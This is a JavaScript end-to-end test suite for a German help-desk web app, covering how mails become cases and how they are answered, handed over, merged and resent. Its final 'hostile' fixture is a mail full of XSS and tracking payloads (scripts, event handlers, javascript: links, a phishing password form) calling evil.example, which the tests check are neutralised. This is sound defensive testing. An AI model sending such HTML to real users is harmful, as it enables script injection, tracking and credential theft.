// The main job: a mail arrives, becomes a case, is answered, the answer arrives.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { closeBrowser, fill, formTo, modes, onPage, openBrowser, press, refused, sound } from "./browser.js";
import { Desk, customer, mailbox } from "./desk.js";
import { answer, send } from "./mail.js";
import { until } from "./wait.js";

before(openBrowser);
after(closeBrowser);

for (const mode of modes) describe(`A case, ${mode.name}`, () => {
  const { t, language, script } = mode;
  const mia = () => desk.mia;
  let desk;

  before(async () => {
    desk = await Desk.furnished(language);
    await desk.undoSeconds(0);
  });
  after(() => desk?.stop());

  const open = async (page, letter) => {
    await page.goto(`${desk.url}/cases/${letter.number}`);
    await sound(page, language);
  };
  const entry = (page, text) => page.locator('li[id^="m-"]').filter({ hasText: text });
  const write = async (page, text) => {
    await fill(formTo(page, "/reply"), { reply: text });
    await press(formTo(page, "/reply"), t("workspace.reply.send"));
  };
  const reply = async (letter, text) => {
    await desk.mia.post(`/cases/${letter.number}/reply`, { reply: text });
    return desk.sink.wait(letter.from, (mail) => mail.text.includes(text));
  };
  const within = async (letter, text) => {
    await until(`“${text}” to be in the case`, async () => (await desk.jonas.page(`/cases/${letter.number}`)).includes(text));
  };

  // Shows a page until something is there: by itself where there is a script,
  // otherwise the reader loads it again.
  const appears = async (page, locator) => {
    if (script) return locator.first().waitFor();
    await until(`${locator} to be there`, async () => {
      await page.reload();
      return (await locator.count()) > 0;
    });
  };
  // Notes that the page has not been loaded anew in between.
  const stays = (page) => page.evaluate(() => (globalThis.stayed = true));
  const stayed = async (page) => assert.equal(await page.evaluate(() => globalThis.stayed), script ? true : undefined);

  it("comes by mail and appears in the list", onPage(mode, mia, async (page) => {
    await page.goto(`${desk.url}/cases?view=unowned`);
    await sound(page, language);
    if (script) await stays(page);
    const letter = await desk.letter({ subject: "Kein Strom in der Hafenstraße" });
    const row = page.getByRole("listitem").filter({ hasText: letter.number });
    await appears(page, row);
    await stayed(page);
    await sound(page, language);
    const words = await row.innerText();
    for (const part of ["Kein Strom in der Hafenstraße", letter.name, "Mein Zähler steht still", t("case.state.new")]) assert.ok(words.includes(part), `${part} in ${words}`);
    const [subject, whole] = await Promise.all([row.locator(".case-what").boundingBox(), row.boundingBox()]);
    assert.ok(subject.width > whole.width / 4, `the subject has ${subject.width} px of ${whole.width}`);
    await row.getByRole("link").click();
    await page.getByRole("heading", { level: 1, name: "Kein Strom in der Hafenstraße" }).waitFor();
    await sound(page, language);
    assert.equal(letter.receipt.header["auto-submitted"], "auto-replied");
    assert.ok(!letter.receipt.text.includes("Zähler"), "an acknowledgement does not echo");
  }));

  it("is classified without losing an answer half written", onPage(mode, mia, async (page) => {
    const topic = language === "de" ? "Rechnung" : "Bill";
    const letter = await desk.letter();
    await open(page, letter);
    if (script) {
      await stays(page);
      await fill(formTo(page, "/reply"), { reply: "Wir prüfen Ihre Rechnung." });
    }
    await page.locator("#class-form [name=topic]").selectOption({ label: topic });
    await page.locator("#class-save").click(); // loads a page only without a script
    await page.getByText(t("workspace.class.saved")).waitFor();
    await page.locator("#case-head").getByText(topic).waitFor();
    await page.locator("#timeline").getByText(t("workspace.class.set", { Name: "Mia Krüger", What: `${t("catalog.kind.topic")} ${topic}` })).waitFor();
    await stayed(page);
    await sound(page, language);
    assert.equal(await page.locator("#case-news").innerText(), "");
    if (!script) return;
    assert.equal(await page.locator("#f-reply").inputValue(), "Wir prüfen Ihre Rechnung.");
    await press(formTo(page, "/reply"), t("workspace.reply.send"));
    await entry(page, "Wir prüfen Ihre Rechnung.").waitFor();
  }));

  it("is found by its number, however it is typed", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await page.goto(`${desk.url}/cases`);
    for (const typed of [letter.number, letter.number.toLowerCase().replaceAll("-", "")]) {
      const field = page.locator("[name=q]");
      await field.fill(typed);
      await field.press("Enter");
      await page.waitForURL(`**/cases/${letter.number}`);
    }
    await page.locator("[name=q]").fill("L-2222-22");
    await page.locator("[name=q]").press("Enter");
    await page.getByText(/L-2222-22/).first().waitFor();
    await sound(page, language);
  }));

  it("is taken, gets a note, changes its state", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await open(page, letter);
    await press(formTo(page, "/take"), t("workspace.take"));
    await page.getByText(t("workspace.flash.taken")).waitFor();
    await sound(page, language);
    assert.equal(await page.getByRole("button", { name: t("workspace.take") }).count(), 0);

    await page.locator("summary").filter({ hasText: t("workspace.note.title") }).click();
    await press(formTo(page, "/note"), t("workspace.note.save"));
    await refused(page, t, ["note"]);
    await fill(formTo(page, "/note"), { note: "Kundin ist ab 15 Uhr erreichbar." });
    await press(formTo(page, "/note"), t("workspace.note.save"));
    const note = entry(page, "Kundin ist ab 15 Uhr erreichbar.");
    await note.waitFor();
    await sound(page, language);
    assert.ok((await note.innerText()).includes(t("ui.message.internal")), "a note says that it is internal");

    await fill(formTo(page, "/state"), { state: "waiting_others" });
    await press(formTo(page, "/state"), t("workspace.state.do"));
    await page.getByText(t("workspace.flash.state_set")).waitFor();
    assert.ok((await page.locator("#case-head").innerText()).includes(t("case.state.waiting_others")));
    await page.goto(`${desk.url}/cases?view=mine`);
    await page.getByRole("listitem").filter({ hasText: letter.number }).filter({ hasText: t("case.state.waiting_others") }).waitFor();
    assert.equal(desk.sink.mails.filter((m) => m.to.includes(letter.from)).length, 1, "the customer hears nothing of this");
  }));

  it("is answered; the answer can be taken back, and arrives", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await desk.undoSeconds(100);
    await open(page, letter);
    await write(page, "Guten Tag,\n\nwir kommen **morgen**.");
    await entry(page, "wir kommen morgen").waitFor();
    await sound(page, language);
    await press(page, t("ui.undo"));
    await page.getByText(t("workspace.flash.withdrawn")).waitFor();
    assert.equal(await page.locator("[name=reply]").inputValue(), "Guten Tag,\n\nwir kommen **morgen**.", "the text is back");
    await sound(page, language);
    assert.equal(desk.sink.mails.filter((m) => m.to.includes(letter.from)).length, 1, "nothing left the house");
    await desk.undoSeconds(0);

    await fill(formTo(page, "/reply"), { next: "waiting_customer" });
    await write(page, "Guten Tag,\n\nwir kommen **übermorgen**.");
    await appears(page, entry(page, "wir kommen übermorgen").filter({ hasText: t("delivery.state.sent") }));
    await sound(page, language);
    assert.ok((await page.locator("#case-head").innerText()).includes(t("case.state.waiting_customer")));
    const mail = await desk.sink.wait(letter.from, (m) => m.text.includes("übermorgen"));
    assert.equal(mail.header["in-reply-to"], letter.id);
    assert.ok(mail.header.references.includes(letter.id));
    assert.match(mail.header["reply-to"], /<hilfe\+[\w-]{10,}@lindenau\.example>/);
    assert.match(mail.header.subject, /^Re: Zähler defekt/);
    assert.match(mail.text, /^> Mein Zähler steht still\.$/m, "the customer's words are quoted");
    assert.ok(mail.text.includes("Mia Krüger") && mail.text.includes(letter.number), "it is signed");
    assert.equal(desk.sink.mails.filter((m) => m.to.includes(letter.from)).length, 2, "it is sent once");
  }));

  if (script) it("counts the seconds down and then says by itself that it is sent", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await desk.undoSeconds(3);
    await open(page, letter);
    await write(page, "Das dauert drei Sekunden.");
    await page.locator("[data-left]").waitFor();
    await desk.undoSeconds(0);
    await stays(page);
    await entry(page, "Das dauert drei Sekunden.").filter({ hasText: t("delivery.state.sent") }).waitFor();
    await page.locator("[data-left]").waitFor({ state: "detached" });
    await stayed(page);
  }));

  it("gets the customer's next mail and leaves a half-written answer alone", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    const first = await reply(letter, "Welche Nummer hat Ihr Zähler?");
    await open(page, letter);
    const draft = page.locator("[name=reply]");
    await draft.fill("Ich schreibe gerade");
    if (script) {
      await stays(page);
      await draft.press("End");
    }
    await answer(desk.mailPort, first, { ...letter, text: "Die Nummer ist 4711." });
    await within(letter, "Die Nummer ist 4711.");
    if (script) {
      await entry(page, "Die Nummer ist 4711.").waitFor();
      await page.getByText(t("workspace.news")).waitFor();
      await stayed(page);
      assert.equal(await page.evaluate(() => document.activeElement.name), "reply", "the cursor stays where it was");
      await page.keyboard.type(" weiter");
    }
    assert.equal(await draft.inputValue(), script ? "Ich schreibe gerade weiter" : "Ich schreibe gerade");

    await press(formTo(page, "/reply"), t("workspace.reply.send"));
    await page.getByText(t("case.changed")).waitFor();
    await sound(page, language);
    assert.match(await draft.inputValue(), /^Ich schreibe gerade/, "the text is kept");
    const news = entry(page, "Die Nummer ist 4711.");
    assert.ok((await news.innerText()).includes(t("workspace.fresh")), "what is new is marked");
    assert.ok((await news.innerText()).includes(t("case.joined.token")));
    assert.ok(!desk.sink.mails.some((m) => m.text.includes("Ich schreibe gerade")), "nothing was sent");
    await press(formTo(page, "/reply"), t("workspace.reply.send"));
    await appears(page, entry(page, "Ich schreibe gerade").filter({ hasText: t("delivery.state.sent") }));
    await desk.sink.wait(letter.from, (m) => m.text.includes("Ich schreibe gerade"));
  }));

  it("is handed over, never without a reason", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await open(page, letter);
    await page.locator("summary").filter({ hasText: t("workspace.handover.title") }).click();
    const form = formTo(page, "/handover");
    const jonas = await form.locator("option").filter({ hasText: "Jonas Weber" }).first().getAttribute("value");
    await fill(form, { to: jonas });
    await press(form, t("workspace.handover.do"));
    await refused(page, t, ["reason"]);
    await sound(page, language);
    assert.equal(await form.locator("[name=to]").inputValue(), jonas, "the choice is kept");
    assert.ok(await form.locator("[name=reason]").isVisible());
    await fill(form, { reason: "Jonas kennt den Zähler." });
    await press(form, t("workspace.handover.do"));
    await page.getByText(t("workspace.flash.handed_over")).waitFor();
    assert.ok((await entry(page, "Jonas kennt den Zähler.").innerText()).includes(t("ui.message.internal")));
    assert.ok((await page.locator("#case-head").innerText()).includes("Jonas Weber"));
    await page.locator("summary").filter({ hasText: t("workspace.handover.title") }).click();
    await form.locator("[name=to]").selectOption({ label: t("workspace.handover.team", { Team: "Netz" }) });
    await fill(form, { reason: "Fachfrage" });
    await press(form, t("workspace.handover.do"));
    await page.getByText(t("workspace.case.roster", { Team: "Netz" })).first().waitFor();
    await sound(page, language);
  }));

  it("asks whether another belongs to it, and takes yes and no", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    const neighbour = (text) => desk.letter({ ...customer(), subject: `Nachtrag zu ${letter.number}`, text });
    const question = page.getByText(t("workspace.suggest.question"));
    const other = await neighbour("Ich bin die Nachbarin.");
    await open(page, other);
    assert.ok((await question.locator("xpath=ancestor::section").innerText()).includes(t("case.suggest.number")));
    await page.getByRole("link", { name: letter.number }).first().waitFor();
    await press(page, t("workspace.suggest.no"));
    await page.getByText(t("workspace.flash.dismissed")).waitFor();
    assert.equal(await question.count(), 0);

    const second = await neighbour("Ich bin der Nachbar von oben.");
    await open(page, second);
    await press(page, t("workspace.suggest.yes"));
    await page.waitForURL(`**/cases/${letter.number}`);
    await page.getByText(t("workspace.flash.was_merged", { Arg: second.number })).waitFor();
    assert.ok((await entry(page, "Ich bin der Nachbar von oben.").innerText()).includes(t("case.joined.merge")));
    await sound(page, language);
    await page.goto(`${desk.url}/cases/${second.number}`);
    assert.equal(new URL(page.url()).pathname, `/cases/${letter.number}`, "the old number leads to the new place");
  }));

  it("shows in the server's words what could not be sent, and sends it again", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await open(page, letter);
    desk.sink.refuse(letter.from, "550 5.2.1 Dieses Postfach ist stillgelegt");
    await write(page, "Das kommt nicht an.");
    const message = entry(page, "Das kommt nicht an.");
    await appears(page, message.filter({ hasText: t("delivery.state.failed") }));
    await sound(page, language);
    assert.ok((await message.innerText()).includes("550 5.2.1 Dieses Postfach ist stillgelegt"), await message.innerText());
    desk.sink.forgive(letter.from);
    await message.locator("summary").filter({ hasText: t("workspace.resend.ask") }).click();
    await sound(page, language);
    await press(message, t("workspace.resend.yes"));
    await page.getByText(t("workspace.flash.resent")).waitFor();
    await appears(page, message.filter({ hasText: t("delivery.state.sent") }));
    await desk.sink.wait(letter.from, (m) => m.text.includes("Das kommt nicht an."));
    assert.equal(desk.sink.mails.filter((m) => m.text.includes("Das kommt nicht an.")).length, 1);
  }));

  it("gives its attachments away only as downloads", onPage(mode, mia, async (page) => {
    const files = [
      { name: "Rechnung Müller.pdf", type: "application/pdf", bytes: "%PDF-1.4 Rechnung" },
      { name: "seite.html", type: "text/html", bytes: "<script>document.title = 'ran'</script>" },
    ];
    const letter = await desk.letter({ files });
    await open(page, letter);
    for (const file of files) {
      const link = page.getByRole("link", { name: file.name });
      const answer = await desk.mia.get(new URL(await link.getAttribute("href"), desk.url).pathname);
      assert.equal(answer.status, 200);
      assert.match(answer.headers.get("content-disposition"), /^attachment; /);
      assert.ok(answer.headers.get("content-disposition").includes(`filename*=UTF-8''${encodeURIComponent(file.name)}`));
      assert.equal(answer.headers.get("content-type"), "application/octet-stream");
      assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
      assert.match(answer.headers.get("content-security-policy"), /^sandbox/);
      assert.equal(await answer.text(), file.bytes);
      const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
      assert.equal(download.suggestedFilename(), file.name);
    }
    await sound(page, language);
  }));

  it("lets nothing in a mail run or reach out", onPage(mode, mia, async (page) => {
    const letter = await desk.letter({ html: hostile });
    await open(page, letter);
    const message = entry(page, "Der sichtbare Text.");
    await message.waitFor();
    assert.ok((await message.innerText()).includes(t("workspace.blocked.other", { Count: "2" })), "blocked images are told");
    const left = await message.evaluate((e) => ({
      ran: Object.keys(globalThis).filter((name) => name.startsWith("ran_")),
      elements: [...e.querySelectorAll("script, iframe, object, form[action*=evil], style, link, meta, base, svg script")].map((x) => x.outerHTML),
      attributes: [...e.querySelectorAll(".mail *, [id^=m-] *")].flatMap((x) => [...x.attributes]).filter((a) => /^on|^style$/.test(a.name) || /^javascript:/i.test(a.value)).map((a) => a.name),
      foreign: [...e.querySelectorAll("[src]")].map((x) => x.src).filter((src) => !src.startsWith(location.origin)),
    }));
    assert.deepEqual(left, { ran: [], elements: [], attributes: [], foreign: [] });
    const link = message.getByRole("link", { name: "Mehr erfahren" });
    assert.match(await link.getAttribute("rel"), /noopener|noreferrer/);
    await sound(page, language);
  }));

  it("is not made of a mail nobody can read: a lead takes a look", onPage(mode, () => desk.jonas, async (page) => {
    await page.goto(`${desk.url}/look`);
    await sound(page, language);
    if (script) await stays(page);
    await send(desk.mailPort, { from: "", to: mailbox, subject: "Ohne Absender", text: "Wer schreibt das?" });
    const row = page.getByRole("listitem").filter({ hasText: t("look.reason.no_sender") });
    await appears(page, row);
    await stayed(page);
    await sound(page, language);
    const raw = await desk.jonas.get(await row.getByRole("link", { name: t("workspace.look.raw") }).getAttribute("href"));
    assert.match(raw.headers.get("content-disposition"), /^attachment; /);
    assert.match(await raw.text(), /Subject: Ohne Absender/);
    await press(row, t("workspace.look.retry"));
    await page.getByText(t("workspace.flash.retried")).waitFor();
    await appears(page, row);
    await press(row, t("workspace.look.dismiss"));
    await page.getByText(t("workspace.flash.look_dismissed")).waitFor();
    await page.getByText(t("workspace.look.empty.title")).waitFor();
    assert.equal((await desk.mia.get("/look")).status, 403, "staff without the right see nothing of it");
  }));

  if (script) it("misses nothing that happens before its page listens", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    let listen;
    const late = new Promise((resolve) => (listen = resolve));
    await page.route("**/live*", async (route) => {
      await late;
      await route.continue();
    });
    await open(page, letter);
    await desk.jonas.post(`/cases/${letter.number}/note`, { note: "Jonas war schneller." });
    listen();
    await entry(page, "Jonas war schneller.").waitFor();
  }));

  it("can be worked by two: both see the same", onPage(mode, mia, async (page) => {
    const letter = await desk.letter();
    await open(page, letter);
    await onPage(mode, () => desk.jonas, async (jonas) => {
      await open(jonas, letter);
      await press(formTo(jonas, "/take"), t("workspace.take"));
      await jonas.getByText(t("workspace.flash.taken")).waitFor();
    })();
    await appears(page, page.locator("#case-head").filter({ hasText: t("workspace.case.owned", { Name: "Jonas Weber", Team: "Service" }) }));
    await sound(page, language);
  }));
});

const hostile = `<html><head><style>body { background: url(http://evil.example/style.gif) }</style>
<meta http-equiv="refresh" content="0; url=http://evil.example/meta"><base href="http://evil.example/"></head>
<body onload="ran_onload = 1" style="background: url(http://evil.example/body.gif)">
<script>ran_script = 1</script><script src="http://evil.example/script.js"></script>
<p style="position: fixed; inset: 0">Der sichtbare Text.</p>
<img src="http://evil.example/pixel.gif" onerror="ran_onerror = 1"><img srcset="http://evil.example/set.gif 1x" src="https://evil.example/two.gif">
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>
<svg onload="ran_svg = 1"><script>ran_svg_script = 1</script></svg>
<a href="javascript:ran_link = 1">Klick</a> <a href="https://evil.example/more">Mehr erfahren</a>
<form action="http://evil.example/form"><input name="password"><button>Anmelden</button></form>
</body></html>`;
